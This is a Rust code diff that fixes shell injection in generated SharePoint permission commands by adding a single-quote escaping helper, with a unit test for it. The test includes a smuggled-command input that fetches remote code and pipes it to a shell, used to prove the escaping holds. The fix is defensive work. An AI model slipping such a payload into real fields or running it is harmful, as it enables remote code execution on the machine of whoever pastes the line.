@@ -92,7 +92,9 @@ fn remedy(snapshot: &Snapshot, site: &str, role: &str) -> Vec<RemedyStep> {
             "or do it here, through a connection of such an application".to_owned(),
             None,
             Some(format!(
-                "consentry run sharepoint.sitePermissions.grant --connection ADMIN siteId='{id}' roles='[\"{role}\"]' grantedToIdentities='{identities}'"
+                "consentry run sharepoint.sitePermissions.grant --connection ADMIN {} roles='[\"{role}\"]' {}",
+                quoted("siteId=", id),
+                quoted("grantedToIdentities=", &identities.to_string())
             )),
         ),
     ];
@@ -101,10 +103,27 @@ fn remedy(snapshot: &Snapshot, site: &str, role: &str) -> Vec<RemedyStep> {
             "or with CLI for Microsoft 365".to_owned(),
             Some("https://pnp.github.io/cli-microsoft365/cmd/spo/site/site-apppermission-add/"),
             Some(format!(
-                "m365 spo site apppermission add --siteUrl '{site}' --permission {role} --appId {client} --appDisplayName '{}'",
-                name.replace('\'', "")
+                "m365 spo site apppermission add {} --permission {role} --appId {client} {}",
+                quoted("--siteUrl ", site),
+                quoted("--appDisplayName ", name)
             )),
         ));
     }
     steps
+}
+
+/// An argument as a shell takes it, whatever is in it: names are given by people, and somebody else pastes the line.
+fn quoted(name: &str, value: &str) -> String {
+    format!("{name}'{}'", value.replace('\'', r"'\''"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::quoted;
+
+    #[test]
+    fn a_name_cannot_leave_its_quotes() {
+        assert_eq!(quoted("name=", "O'Neil"), r"name='O'\''Neil'");
+        assert_eq!(quoted("", "';curl x|sh;'"), r"''\'';curl x|sh;'\'''");
+    }
 }
